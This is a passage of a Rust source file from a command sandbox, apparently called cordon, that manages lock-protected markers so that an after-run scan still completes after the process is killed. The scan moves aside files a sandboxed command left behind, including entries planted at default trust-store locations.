//! After a run: what the command left in the writable roots that makes the operator's tools
//! run code (the sandbox's after-run scan found it and moved it aside, see
//! `cordon_ossandbox::Ran::findings`). Each finding is one `cordon: warning:` line on stderr
//! and all of them one audit record (`by: after-run`), appended by the same writer as the
//! decision, so the chain stays verifiable. The command's own exit status stands: the warnings
//! and the record are the signal, and the files are already moved aside.
//!
//! The scan must happen even when this cordon does not live to do it (an agent host kills it
//! at its timeout), and must not be cut short by a command that fills the root with names. So
//! each run leaves a *marker* beside the audit log (a directory the sandbox never reaches),
//! locked for as long as the run's cordon lives — with a `cordon_fs::lock::ProcessLock`, which
//! no process it forks or clones holds (a `flock` is held by every copy of its descriptor: a
//! child of another run of the same `cordon mcp` between its fork and exec, bwrap's pid 1 or
//! the Landlock backend's init before they close what they copied, made a dead run's marker, or
//! one a check had just locked, look live):
//!
//! ```text
//!  LOGDIR/scans/run-PID-STAMP     roots, start time, state (running | incomplete), and
//!                                 the earlier contents of the watched files (`kept`)
//!  LOGDIR/scans/listings-HASH     what the last completed scan over those roots read
//!  LOGDIR/scans/journal-PID-…     a move of a scan under way (`cordon_ossandbox::Journal`)
//! ```
//!
//! the marker removed when the scan completed (the listings stay: the next run's "before"
//! snapshot reads only the directories changed since, see `cordon_ossandbox::Listings`). A
//! later run that finds an unlocked marker (its cordon is
//! gone) over one of its own roots does the dead run's scan first — everything watched that
//! changed since that run began (ctime, which a command cannot set back) is moved aside and
//! recorded, a changed file given back the earlier content its run kept after its marker's
//! text once its "before" snapshot had read it ([`Pending::keep`]), a file the run removed
//! written back from the same — and refuses to run
//! while a scan could not complete (the walk's limit), until the operator has looked and
//! deleted the marker.
//!
//! Before those scans, a later run finishes the moves a dead scan began over roots that meet
//! its own (each journaled, with the earlier content a changed file gets back, before the
//! file is touched): a cordon killed between moving a file aside and restoring it, or a
//! restore a full disk refused, loses nothing.
//!
//! One part of a dead run's scan cannot wait for the next run over the same roots: a default
//! place of cordon's trust store that lay missing in its roots (`~/.config/cordon` while
//! XDG_CONFIG_HOME pointed elsewhere; no backend keeps a missing name from being created, see
//! `cordon_ossandbox::MissingPlace`). An entry planted there chooses the policy of the next
//! cordon started without XDG_CONFIG_HOME, anywhere, before any root is known. So the marker
//! also lists those places (`store` lines, with what existed on the way), and every gate, before
//! it looks for a policy, does that part of the dead runs' scans whose markers lie beside the
//! default audit logs of its environment ([`before_discovery`]): what appeared there is moved
//! aside and recorded, so discovery finds no store, or the operator's own. A `store` line is
//! acted on only for a default trust-store place of the current environment: a marker never
//! makes cordon move anything else aside. A run whose own log is not a default one (a policy's
//! `approval.audit_log`), or whose XDG_STATE_HOME differs from the next cordon's, leaves a copy
//! of its `store` lines beside each default log of its environment that exists
//! ([`store_copies`]): the one under HOME is every environment's, and a directory that holds a
//! log is kept from the run, so the copy can be neither forged nor removed by it.

use std::path::{Path, PathBuf};

use cordon_approval::audit::{AfterRunFinding, AuditLog, By, Kind, Record};
use cordon_fs::lock::ProcessLock;
use cordon_ossandbox::{
    Base, Change, Enforcement, Finding, Handling, MissingPlace, SCAN_MAX_ENTRIES,
};
use cordon_policy::Action;

use crate::clean;

/// This run's marker (see the module's documentation), after the scans of earlier runs over
/// `roots` whose cordon died. `Err`: the run must not happen (a scan that could not complete),
/// with the line that says why and what to do.
///
/// `forgeable`: the log's directory is one a process outside cordon may write (the state
/// apart of the runs inside Codex's sandbox): the journaled moves found there are reported
/// and kept, never finished (see `cordon_ossandbox::Journal::keep_unfinished`).
pub fn pending(
    roots: &[PathBuf],
    log: &Path,
    session: &str,
    forgeable: bool,
) -> Result<Option<Pending>, String> {
    let Some(dir) = scans_beside(log) else {
        return Ok(None);
    };
    recover(&dir, roots, log, session, forgeable)?;
    let stores = MissingPlace::trust_stores_in(roots);
    let marker = Marker::create(&dir, roots, &stores, log).map_err(|e| {
        format!("cannot record the run's after-run scan as pending in {}: {e}; the scan must survive cordon being killed", dir.display())
    })?;
    Ok(Some(Pending(marker, store_copies(&dir, &stores, log))))
}

/// Copies of a run's trust-store watches (markers with `store` lines and no roots) beside the
/// default audit logs of this environment other than its own, where a log exists: a cordon
/// started later without XDG_CONFIG_HOME does the dead run's part of the scan before its
/// discovery ([`before_discovery`]), and it looks beside its default logs only — not beside a
/// policy's own `approval.audit_log`, nor under another XDG_STATE_HOME, while the default log
/// under HOME is common to both. Only where a log exists: the profile keeps that directory
/// from the run (bwrap hides it, Landlock refuses the run), so the run cannot forge or remove
/// the copy. Best effort: the run's own marker is the one that must exist.
fn store_copies(own: &Path, stores: &[MissingPlace], log: &Path) -> Vec<Marker> {
    if stores.is_empty() {
        return Vec::new();
    }
    let mut dirs: Vec<PathBuf> = Vec::new();
    for other in default_logs().iter().filter(|l| l.is_file()) {
        if let Some(d) = scans_beside(other).filter(|d| d != own && !dirs.contains(d)) {
            dirs.push(d);
        }
    }
    dirs.iter()
        .filter_map(|d| match Marker::create(d, &[], stores, log) {
            Ok(m) => Some(m),
            Err(e) => {
                tracing::debug!(dir = %d.display(), error = %e, "no copy of the trust-store watches");
                None
            }
        })
        .collect()
}

/// Where the after-run scan's listings of `roots` are kept between runs recording to `log`
/// (`cordon_ossandbox::Listings`): beside the markers, which no run reaches. `forgeable` (see
/// [`pending`]): never read there, only written.
pub fn listings(
    roots: &[PathBuf],
    log: &Path,
    forgeable: bool,
) -> Option<cordon_ossandbox::Listings> {
    (!roots.is_empty())
        .then(|| scans_beside(log))
        .flatten()
        .map(|dir| cordon_ossandbox::Listings::beside(&dir, roots))
        .map(|l| if forgeable { l.unread() } else { l })
}

/// Where the markers of the runs recording to `log` lie.
fn scans_beside(log: &Path) -> Option<PathBuf> {
    log.parent()
        .filter(|p| !p.as_os_str().is_empty())
        .map(|d| d.join(cordon_policy::SCANS_DIR))
}

/// Before policy discovery: the trust-store part of the scans of dead runs whose markers lie
/// beside a default audit log of this environment (see the module's documentation). What
/// appeared at a default place of the trust store during such a run is moved aside, warned
/// about and recorded in that run's log. Runs whose markers lie elsewhere (a policy naming its
/// own `approval.audit_log`) are done by the next run over their roots, as before.
pub fn before_discovery() {
    let mut seen = Vec::new();
    // Only beside a log that exists: the profile keeps such a directory from every run (bwrap
    // read-only, Landlock refuses), so what lies there is cordon's; where no log is, a run
    // may have had the place in reach and left a marker of its own making.
    for log in default_logs().iter().filter(|l| l.is_file()) {
        let Some(dir) = scans_beside(log).filter(|d| !seen.contains(d)) else {
            continue;
        };
        seen.push(dir.clone());
        for dead in dead_markers(&dir) {
            let Ok(said) = dead.parsed() else {
                continue; // the next run over its roots refuses it, saying why
            };
            if said.stores.is_empty() {
                continue;
            }
            let their_log = said.log.clone().unwrap_or_else(|| log.to_path_buf());
            check_stores(&said.stores, &their_log);
            // Its stores are done; its roots wait for the next run over them.
            if said.roots.is_empty() {
                let _ = dead.dir.remove(&dead.rel);
            } else {
                let text = marker_text(
                    &said.roots,
                    said.started,
                    &said.state,
                    &[],
                    Some(&their_log),
                );
                let _ = dead.rewrite(&text, &said.kept);
            }
        }
    }
}

/// The roots that hold `path` of the runs going now (their marker locked by a live cordon)
/// that record beside a default audit log of this environment: a write cordon makes at `path`
/// meanwhile (`cordon install`) would be taken by that run's after-run scan for its command's
/// change and undone. Runs recording to a policy's own `approval.audit_log` are not seen.
/// `Err`: a live run whose roots cannot be read (its marker cannot be checked or read), or a
/// directory of markers that cannot be listed — it may be over `path` ([`live_runs`], the one
/// reading of "a run going" that the overlap rule uses too).
pub fn live_runs_over(path: &Path) -> Result<Vec<PathBuf>, String> {
    let mut out: Vec<PathBuf> = Vec::new();
    for log in default_logs() {
        let Some(dir) = scans_beside(&log) else {
            continue;
        };
        let d = match cordon_fs::safe::Dir::anchor(&dir) {
            Ok(d) => d,
            Err(e) if e.is_not_found() => continue, // no run ever recorded there
            Err(e) => return Err(format!("cannot look for runs going: {e}")),
        };
        for run in live_runs(&d, None)? {
            for r in run.said?.roots {
                if path.starts_with(&r) && !out.contains(&r) {
                    out.push(r);
                }
            }
        }
    }
    Ok(out)
}

/// A run going now, beside this one's marker or a default log's ([`live_runs`]).
struct Live {
    /// Its marker's text; `Err`: what keeps it from being read (a marker that cannot be
    /// checked or is not one cordon wrote, or a run of this process, never opened).
    said: Result<Said, String>,
    /// Its marker holds a kept part ([`Pending::keep`]): its "before" snapshot was taken.
    kept: bool,
}

/// The runs going now whose markers are in `d` (their lock held: their cordon alive), but
/// `except`. A marker that cannot be checked or read counts as a run going whose roots are
/// unknown (`Live::said` is `Err`): the readers ([`live_runs_over`], [`Pending::keep`]) take
/// it for one over theirs. `Err`: `d` cannot be listed.
fn live_runs(d: &cordon_fs::safe::Dir, except: Option<&Path>) -> Result<Vec<Live>, String> {
    use std::os::unix::ffi::OsStrExt;
    let names = d
        .entries()
        .map_err(|e| format!("cannot list the runs going: {e}"))?;
    let mut out = Vec::new();
    for (n, _) in names {
        let name = Path::new(&n);
        if !n.as_bytes().starts_with(b"run-") || Some(name) == except {
            continue;
        }
        let shown = d.path().join(name);
        let unknown = |why: String| Live {
            said: Err(format!("{}: {why}", shown.display())),
            kept: true,
        };
        // Another run of this process (`cordon mcp`'s parallel tool calls): never opened, as
        // closing a descriptor of it would release its lock (`cordon_fs::lock::ProcessLock`);
        // what its marker says is read from this process's registry of its runs ([`Ours`]).
        // A marker this process holds that is not there is a dead run's whose scan a sibling
        // is doing: its roots are taken as unknown.
        if let Some(st) = d
            .stat_at(name)
            .ok()
            .flatten()
            .filter(ProcessLock::held_here)
        {
            out.push(
                Ours::live(&st).unwrap_or_else(|| {
                    unknown("a dead run's marker this cordon is scanning".into())
                }),
            );
            continue;
        }
        match lock_if_free(d, name) {
            Ok(Some(_dead)) => continue,
            // Held (live), or gone meanwhile.
            Ok(None) if !matches!(d.stat_at(name), Ok(None)) => {}
            Ok(None) => continue,
            Err(why) => {
                out.push(unknown(why));
                continue;
            }
        }
        let bytes = d.read(name, MARKER_MAX as u64).ok().flatten();
        let (text, kept) = bytes.as_deref().map_or((None, &[][..]), split_kept);
        let has_kept = bytes
            .as_deref()
            .is_some_and(|b| text.is_some_and(|t| t.len() < b.len()));
        match text
            .and_then(|t| std::str::from_utf8(t).ok())
            .and_then(parse_marker)
        {
            Some(mut said) => {
                said.kept = kept.to_vec();
                out.push(Live {
                    said: Ok(said),
                    kept: has_kept,
                });
            }
            None => out.push(unknown("not a marker cordon wrote".into())),
        }
    }
    Ok(out)
}

/// The default audit logs of this environment (`$XDG_STATE_HOME/cordon/audit.jsonl`, and the
/// one under HOME), as `Policy::approval.other_audit_logs` names them.
fn default_logs() -> Vec<PathBuf> {
    let var = |name: &str| std::env::var_os(name);
    let mut logs: Vec<PathBuf> = Vec::new();
    for l in [
        cordon_policy::AuditLog::default_from(var),
        cordon_policy::AuditLog::default_from(|name| {
            (name != "XDG_STATE_HOME").then(|| var(name)).flatten()
        }),
    ] {
        if let Some(p) = l.path() {
            if !logs.iter().any(|o| o == p) {
                logs.push(p.to_path_buf());
            }
        }
    }
    logs
}

/// A dead run's default trust-store places, checked: what appeared there moved aside, warned
/// about and recorded in `log`.
///
/// Only places that are a default place of the trust store in this environment are checked:
/// those are what this gate's discovery would take, and a marker never makes cordon move
/// aside anything else (the check renames what it finds at or on the way to the place).
fn check_stores(stores: &[MissingPlace], log: &Path) {
    let findings: Vec<Finding> = stores
        .iter()
        .filter(|s| s.is_a_trust_store_place_here())
        .filter_map(MissingPlace::check)
        .collect();
    for f in &findings {
        eprintln!(
            "cordon: warning: an earlier run's cordon ended before its after-run scan; {}",
            clean(&f.message())
        );
    }
    if !findings.is_empty() {
        record("shell", &findings, None, log, None, "after-run-recovered");
    }
}

/// A marker whose run's cordon is gone: locked by us, still under its name.
struct Dead {
    dir: cordon_fs::safe::Dir,
    rel: PathBuf,
    /// Holds the lock while the dead run's scan is done; `Err`: why its liveness could not
    /// be checked (then it is refused like a marker cordon did not write).
    lock: Result<ProcessLock, String>,
    shown: PathBuf,
}

impl Dead {
    /// Says `text` now (its trust-store part done), in place, through the locked descriptor:
    /// a new file put under its name (the link-safe replace) would be unlocked, and another
    /// cordon would take it for a dead run's and do the same scan alongside this one. A kill
    /// between the write and the truncation leaves a text that is no marker: refused, naming
    /// the file, never acted on.
    /// What the run kept (`kept`, [`Pending::keep`]) stays after it.
    fn rewrite(&self, text: &str, kept: &[u8]) -> std::io::Result<()> {
        use std::os::unix::fs::FileExt;
        let Ok(lock) = &self.lock else {
            return Ok(()); // never read, never rewritten: refused as it is
        };
        let mut all = text.as_bytes().to_vec();
        if !kept.is_empty() {
            all.extend_from_slice(KEPT_LINE);
            all.extend_from_slice(kept);
        }
        lock.file().write_all_at(&all, 0)?;
        lock.file().set_len(all.len() as u64)
    }

    /// When the file was made (its birth time, which no process can set), where the
    /// filesystem keeps one.
    fn born(&self) -> Option<std::time::SystemTime> {
        use rustix::fs::{statx, AtFlags, StatxFlags};
        let lock = self.lock.as_ref().ok()?;
        let st = statx(lock.file(), c"", AtFlags::EMPTY_PATH, StatxFlags::BTIME).ok()?;
        if !StatxFlags::from_bits_retain(st.stx_mask).contains(StatxFlags::BTIME) {
            return None;
        }
        let t = st.stx_btime;
        u64::try_from(t.tv_sec).ok().map(|s| {
            std::time::UNIX_EPOCH + std::time::Duration::new(s, t.tv_nsec.min(999_999_999))
        })
    }

    /// Its text, parsed; `Err` with the refusal when it is not a marker cordon wrote.
    fn parsed(&self) -> Result<Said, String> {
        // Read through the locked descriptor: opening the file again and closing it would
        // release this process's lock (see `cordon_fs::lock::ProcessLock`).
        let lock = self.lock.as_ref().map_err(|why| {
            format!(
                "{}: {why}; check what it is and delete it",
                self.shown.display()
            )
        })?;
        let bytes = read_locked(lock.file(), MARKER_MAX).ok().flatten();
        let (text, kept) = bytes.as_deref().map_or((None, &[][..]), split_kept);
        let Some(mut m) = text
            .and_then(|t| std::str::from_utf8(t).ok())
            .and_then(parse_marker)
        else {
            return Err(format!(
                "{} is not a marker cordon wrote; delete it after checking what it is",
                self.shown.display()
            ));
        };
        m.kept = kept.to_vec();
        Ok(m)
    }
}

/// A marker's bytes: its text, and what its run kept after it ([`Pending::keep`]; empty
/// when nothing was). The text's lines are ASCII words and hex, so the first line that says
/// `kept` begins the kept part.
fn split_kept(bytes: &[u8]) -> (Option<&[u8]>, &[u8]) {
    let mut at = 0;
    while at < bytes.len() {
        if bytes[at..].starts_with(KEPT_LINE) {
            return (Some(&bytes[..at]), &bytes[at + KEPT_LINE.len()..]);
        }
        match bytes[at..].iter().position(|&b| b == b'\n') {
            Some(n) => at += n + 1,
            None => break,
        }
    }
    (Some(bytes), &[])
}

/// At most `max` bytes of `file` from its start (`None`: more than that).
fn read_locked(file: &std::fs::File, max: usize) -> std::io::Result<Option<Vec<u8>>> {
    use std::os::unix::fs::FileExt;
    let mut bytes = vec![0; max + 1];
    let mut got = 0;
    while got < bytes.len() {
        match file.read_at(&mut bytes[got..], got as u64) {
            Ok(0) => break,
            Ok(n) => got += n,
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
            Err(e) => return Err(e),
        }
    }
    bytes.truncate(got);
    Ok((got <= max).then_some(bytes))
}

/// The marker `name` in `d` locked by this process, if no process (this one included) holds
/// its lock: its run's cordon is gone, or never took it. `Ok(None)` when one holds it, or it
/// is gone or not a regular file; `Err` when it cannot be checked (it cannot be opened to
/// write, which a record write lock needs: a mode changed by hand). Never opens a marker
/// this process holds (closing that descriptor would release the lock, see
/// `cordon_fs::lock::ProcessLock`), and never through a link.
fn lock_if_free(d: &cordon_fs::safe::Dir, name: &Path) -> Result<Option<ProcessLock>, String> {
    use rustix::fs::{FileType, Mode, OFlags};
    let regular =
        |st: &rustix::fs::Stat| FileType::from_raw_mode(st.st_mode) == FileType::RegularFile;
    let Some(st) = d.stat_at(name).ok().flatten() else {
        return Ok(None);
    };
    if !regular(&st) || ProcessLock::held_here(&st) {
        return Ok(None);
    }
    let fd = match rustix::fs::openat(
        d,
        name,
        OFlags::RDWR | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::NOCTTY | OFlags::CLOEXEC,
        Mode::empty(),
    ) {
        Ok(fd) => fd,
        Err(rustix::io::Errno::NOENT | rustix::io::Errno::LOOP) => return Ok(None),
        Err(e) => {
            return Err(format!(
                "cannot open it to check whether its run's cordon is alive ({e})"
            ))
        }
    };
    match rustix::fs::fstat(&fd) {
        Ok(st) if regular(&st) => {}
        _ => return Ok(None),
    }
    ProcessLock::try_take(std::fs::File::from(fd))
        .map_err(|e| format!("cannot check whether its run's cordon is alive ({e})"))
}

/// The markers in `dir` whose cordon is gone (see the module's documentation); removes a
/// leftover `.new-` marker of a cordon that died before its run.
fn dead_markers(dir: &Path) -> Vec<Dead> {
    dead_markers_and_moves(dir).0
}

/// [`dead_markers`], and whether the directory holds a scan's journaled move
/// (`cordon_ossandbox::Journal`): one listing for both, so a run with nothing to recover
/// reads the directory once, as before the journal.
fn dead_markers_and_moves(dir: &Path) -> (Vec<Dead>, bool) {
    let Ok(d) = cordon_fs::safe::Dir::anchor(dir) else {
        return (Vec::new(), false); // no marker was ever left
    };
    let Ok(names) = d.entries() else {
        return (Vec::new(), false);
    };
    let mut dead = Vec::new();
    let mut moves = false;
    for (name, _) in names {
        if name
            .as_encoded_bytes()
            .starts_with(cordon_ossandbox::Journal::PREFIX.as_bytes())
        {
            moves = true;
            continue;
        }
        let rel = PathBuf::from(&name);
        if name.to_string_lossy().starts_with(".new-") {
            // A marker whose cordon died before renaming it into place (before its run): gone
            // with it unless its lock is still held. Only an old one: a fresh one may be
            // between its creation and its lock.
            let old = d
                .stat_at(&rel)
                .ok()
                .flatten()
                .and_then(|st| {
                    let t = std::time::UNIX_EPOCH
                        + std::time::Duration::new(
                            u64::try_from(st.st_mtime).ok()?,
                            u32::try_from(st.st_mtime_nsec).ok()?,
                        );
                    t.elapsed().ok()
                })
                .is_some_and(|age| age > std::time::Duration::from_secs(600));
            if old {
                if let Ok(Some(_gone)) = lock_if_free(&d, &rel) {
                    let _ = d.remove(&rel);
                }
            }
            continue;
        }
        if !name.to_string_lossy().starts_with("run-") {
            continue;
        }
        let lock = match lock_if_free(&d, &rel) {
            Ok(Some(lock)) => lock,
            Ok(None) => continue, // a live run's: its own cordon scans
            // Not taken for a live run's: the next run over its roots is refused, saying why.
            Err(why) => {
                let Ok(dir_again) = cordon_fs::safe::Dir::anchor(dir) else {
                    continue;
                };
                dead.push(Dead {
                    dir: dir_again,
                    shown: dir.join(&rel),
                    rel,
                    lock: Err(why),
                });
                continue;
            }
        };
        // Its run may have finished (and removed it) between our open and our lock: only a
        // marker still under its name is a dead run's. (A `stat` of the name, not an open:
        // see `lock_if_free`.)
        let still_there = {
            let ours = rustix::fs::fstat(lock.file())
                .ok()
                .map(|m| (m.st_dev, m.st_ino));
            let named = d.stat_at(&rel).ok().flatten().map(|m| (m.st_dev, m.st_ino));
            ours.is_some() && ours == named
        };
        if !still_there {
            continue;
        }
        let Ok(dir_again) = cordon_fs::safe::Dir::anchor(dir) else {
            continue;
        };
        dead.push(Dead {
            dir: dir_again,
            shown: dir.join(&rel),
            rel,
            lock: Ok(lock),
        });
    }
    (dead, moves)
}

/// A run's pending scan, held until [`Pending::finish`]: its marker, and the copies of its
/// trust-store watches beside the other default logs ([`store_copies`]).
pub struct Pending(Marker, Vec<Marker>);

impl Pending {
    /// Taken right before the run's "before" snapshot, and held until what the run puts back
    /// is kept ([`Pending::keep`]): the runs recording beside one log take their snapshots one
    /// at a time, so a run going whose marker holds no kept part has not begun its command
    /// (it waits here, or has not come this far) and cannot have planted what this run's
    /// snapshot reads. A lock on the markers' directory (`flock`, the one lock of
    /// `cordon_fs::lock`), which no run reaches. `Err`: not within 30 s (another cordon's
    /// snapshot of a very large tree, or a stopped cordon): the run does not start, as its
    /// scan could not tell its own changes from another run's.
    pub fn starting(&self) -> Result<cordon_fs::lock::FileLock, String> {
        use rustix::fs::{Mode, OFlags};
        let dir = rustix::fs::openat(
            &self.0.dir,
            ".",
            OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
            Mode::empty(),
        )
        .map_err(|e| {
            format!(
                "cannot open {} to lock it: {e}",
                self.0.dir.path().display()
            )
        })?;
        cordon_fs::lock::FileLock::exclusive(std::fs::File::from(dir), START_DEADLINE).map_err(
            |e| {
                format!(
                    "another run's \"before\" snapshot over the roots beside {} held the start lock ({e}); run it again once that run has begun",
                    self.0.dir.path().display()
                )
            },
        )
    }

    /// Under the start lock ([`Pending::starting`]), once the run's "before" snapshot read
    /// `own` (`cordon_ossandbox::Kept`): what the run's scan puts back, kept after the marker's
    /// text through its locked descriptor (one write, no sync: it guards against cordon being
    /// killed, like the marker itself), where a dead run's scan finds it ([`recover`]).
    ///
    /// The overlap rule. Another run going over roots that meet these, past its own snapshot,
    /// may have planted or removed something that `own` read. What is put back is then what
    /// the first of the runs going kept — the state before any of them began — where all of
    /// them are over the same roots and kept one ([`Base::Earlier`]); else nothing
    /// ([`Base::Nothing`]: the scan moves aside and says that nothing is written back). A
    /// marker that cannot be read counts as a run over these roots. `Err`: the write failed
    /// (a full disk): the run does not start, since a later run could not tell its base.
    pub fn keep(&self, own: &[u8]) -> Result<Base, String> {
        use std::os::unix::fs::FileExt;
        let m = &self.0;
        let base = match live_runs(&m.dir, Some(&m.name)) {
            Err(_) => Base::Nothing,
            Ok(runs) => base_among(own, &m.roots, runs),
        };
        let mut tail = KEPT_LINE.to_vec();
        tail.extend_from_slice(match &base {
            Base::Own => own,
            Base::Earlier(kept) => kept,
            Base::Nothing => &[],
        });
        m.file().write_all_at(&tail, m.end).map_err(|e| {
            format!(
                "cannot keep what the run's scan puts back beside its marker {} ({e}); free some space there",
                m.dir.path().join(&m.name).display()
            )
        })?;
        // Its siblings in this process read it here ([`Ours`]), never from the file.
        Ours::kept(m.id, tail[KEPT_LINE.len()..].to_vec());
        Ok(base)
    }

    /// The scan completed but could not write some earlier contents back, nor journal them
    /// (`cordon_ossandbox::Handling::Unrestored`: a full disk, which the command may have
    /// filled): the marker stays, its state `restore`, written in place over `running` (the
    /// same length: no block to allocate on a full disk), with what the run kept after it; the
    /// next run over its roots writes the kept files whose names are empty back ([`recover`]).
    /// `false` when that could not be written (the earlier contents are then lost).
    pub fn unrestored(self) -> bool {
        use std::os::unix::fs::FileExt;
        let marked = self.0.state_at > 0
            && self
                .0
                .file()
                .write_all_at(b"restore", self.0.state_at)
                .is_ok();
        if !marked {
            self.0.done();
        }
        for copy in &self.1 {
            copy.done();
        }
        marked
    }

    /// The scan completed (`truncated` empty): the marker goes; else it stays, saying so, and
    /// the next run there is refused until the operator has looked. The copies go either way:
    /// the scan checked the trust-store places.
    pub fn finish(self, truncated: &[&str]) {
        if truncated.is_empty() {
            self.0.done();
        } else {
            self.0.incomplete();
        }
        for copy in &self.1 {
            copy.done();
        }
    }
}

/// Creates `name` in `dir` with `bytes`, refusing an existing name (a link included), and
/// without a sync. What the marker guards against is cordon being killed (an agent host's
/// timeout, SIGKILL): the kernel keeps what was written when a process dies, so a later run
/// finds it; only a crash of the machine loses it, and for that the marker never was durable
/// (its rename into place was never synced, and a `.new-` name is ignored). Not syncing it
/// leaves the run's audit record the one sync on its hot path (issue 25).
fn write_new(
    dir: &cordon_fs::safe::Dir,
    name: &Path,
    bytes: &[u8],
) -> std::io::Result<std::fs::File> {
    use rustix::fs::{Mode, OFlags};
    use std::io::Write;
    rustix::fs::openat(
        dir,
        name,
        OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::from_raw_mode(0o600),
    )
    .map_err(std::io::Error::from)
    .and_then(|fd| {
        let mut file = std::fs::File::from(fd);
        file.write_all(bytes).map(|()| file)
    })
    .map_err(|e| {
        std::io::Error::new(
            e.kind(),
            format!("{}: {e}", dir.path().join(name).display()),
        )
    })
}

/// A run's marker: the file, its lock (held by this process alone, so that no child of it
/// keeps the marker looking live after this process ended or let go, see
/// `cordon_fs::lock::ProcessLock`) and what it says.
struct Marker {
    dir: cordon_fs::safe::Dir,
    name: PathBuf,
    /// `None` only inside `drop`.
    lock: Option<ProcessLock>,
    /// Its entry in this process's registry of its runs ([`Ours`]).
    id: u64,
    roots: Vec<PathBuf>,
    log: PathBuf,
    started: std::time::SystemTime,
    /// Where its text ends: what the run keeps ([`Pending::keep`]) is written after it.
    end: u64,
    /// Where its state's word (`running`) begins in its text ([`Pending::unrestored`]).
    state_at: u64,
}

const MARKER_HEAD: &str = "cordon after-run scan marker v1";
/// After a marker's text: what its run kept ([`Pending::keep`]), to its end.
const KEPT_LINE: &[u8] = b"kept\n";
/// A marker is read whole: its text, and at most 1 MiB kept (`cordon_ossandbox::Kept`).
const MARKER_MAX: usize = 3 << 20;
/// How long a run waits for the others' "before" snapshots ([`Pending::starting`]).
const START_DEADLINE: std::time::Duration = std::time::Duration::from_secs(30);

fn unhex(s: &str) -> Option<Vec<u8>> {
    hex::decode(s).ok()
}

fn marker_text(
    roots: &[PathBuf],
    started: std::time::SystemTime,
    state: &str,
    stores: &[MissingPlace],
    log: Option<&Path>,
) -> String {
    use std::os::unix::ffi::OsStrExt;
    let t = started
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap_or_default();
    let mut text = format!(
        "{MARKER_HEAD}\nstarted {} {}\nstate {state}\n",
        t.as_secs(),
        t.subsec_nanos()
    );
    for r in roots {
        text.push_str(&format!("root {}\n", hex::encode(r.as_os_str().as_bytes())));
    }
    if let Some(log) = log {
        text.push_str(&format!(
            "log {}\n",
            hex::encode(log.as_os_str().as_bytes())
        ));
    }
    for s in stores {
        let (root, place, before) = s.parts();
        let before: Vec<String> = before.iter().map(|(d, i)| format!("{d}:{i}")).collect();
        text.push_str(&format!(
            "store {} {} {}\n",
            hex::encode(root.as_os_str().as_bytes()),
            hex::encode(place.as_os_str().as_bytes()),
            if before.is_empty() {
                "-".to_string()
            } else {
                before.join(",")
            }
        ));
    }
    text
}

/// What a marker says.
struct Said {
    started: std::time::SystemTime,
    state: String,
    roots: Vec<PathBuf>,
    stores: Vec<MissingPlace>,
    log: Option<PathBuf>,
    /// What its run kept ([`Pending::keep`]).
    kept: Vec<u8>,
}

/// A marker's text, parsed; `None` when it is not one.
fn parse_marker(text: &str) -> Option<Said> {
    use std::os::unix::ffi::OsStringExt;
    let path = |h: &str| Some(PathBuf::from(std::ffi::OsString::from_vec(unhex(h)?)));
    let mut lines = text.lines();
    if lines.next()? != MARKER_HEAD {
        return None;
    }
    let (mut started, mut state, mut roots, mut stores, mut log) =
        (None, None, Vec::new(), Vec::new(), None);
    for l in lines {
        match l.split_once(' ')? {
            ("started", t) => {
                let (s, n) = t.split_once(' ')?;
                started = Some(
                    std::time::UNIX_EPOCH
                        + std::time::Duration::new(s.parse().ok()?, n.parse().ok()?),
                );
            }
            ("state", s) => state = Some(s.to_string()),
            ("root", h) => roots.push(path(h)?),
            ("log", h) => log = Some(path(h)?),
            ("store", s) => {
                let mut f = s.split(' ');
                let (root, place, before) = (path(f.next()?)?, path(f.next()?)?, f.next()?);
                let before = match before {
                    "-" => Vec::new(),
                    b => b
                        .split(',')
                        .map(|p| {
                            let (d, i) = p.split_once(':')?;
                            Some((d.parse().ok()?, i.parse().ok()?))
                        })
                        .collect::<Option<Vec<_>>>()?,
                };
                stores.push(MissingPlace::recorded(root, place, before));
            }
            _ => return None,
        }
    }
    Some(Said {
        started: started?,
        state: state?,
        roots,
        stores,
        log,
        kept: Vec::new(),
    })
}

impl Marker {
    fn create(
        dir: &Path,
        roots: &[PathBuf],
        stores: &[MissingPlace],
        log: &Path,
    ) -> Result<Marker, String> {
        let parent = dir.parent().ok_or("no directory")?;
        let started = std::time::SystemTime::now();
        let stamp = started
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |d| d.as_nanos());
        // Unique within the process too: several runs of one `cordon mcp` start at once.
        static NEXT: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
        let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let unique = format!("{}-{stamp:x}-{n}", std::process::id());
        let name = PathBuf::from(format!("run-{unique}"));
        // Written and locked under a name `recover` ignores, then renamed into place: a marker
        // is never seen unlocked, so a concurrent run never takes a live run's marker for a
        // dead one's (scanning and removing it, or making this run's lock fail).
        let fresh = PathBuf::from(format!(".new-{unique}"));
        let text = marker_text(roots, started, "running", stores, Some(log));
        // Another run's `done` may remove the directory between its creation and the marker's
        // (it goes when empty): then once more.
        let mut tries = 0;
        let (dir, file) = loop {
            let made = cordon_fs::safe::Dir::anchor(parent)
                .and_then(|d| d.create_dirs(Path::new(cordon_policy::SCANS_DIR), 0o700))
                .map_err(|e| (e.is_not_found(), e.to_string()))
                .and_then(|d| {
                    write_new(&d, &fresh, text.as_bytes())
                        .map(|f| (d, f))
                        .map_err(|e| (e.kind() == std::io::ErrorKind::NotFound, e.to_string()))
                });
            match made {
                Ok(m) => break m,
                Err((true, _)) if tries < 3 => tries += 1,
                Err((_, e)) => return Err(e),
            }
        };
        // In this process's registry before it is locked: a sibling run that finds the
        // marker held here finds what it says ([`Ours`]).
        let key = rustix::fs::fstat(&file)
            .map(|st| Ours::key(&st))
            .map_err(|e| format!("cannot look at {}: {e}", fresh.display()))?;
        Ours::add(n, key, roots, started);
        let lock = match ProcessLock::try_take(file) {
            Ok(Some(lock)) => lock,
            Ok(None) => {
                Ours::remove(n);
                let _ = dir.remove(&fresh);
                return Err("cannot lock it: held by another process".into());
            }
            Err(e) => {
                Ours::remove(n);
                let _ = dir.remove(&fresh);
                return Err(format!("cannot lock it: {e}"));
            }
        };
        if let Err(e) = dir.rename_noreplace(&fresh, &name) {
            drop(lock);
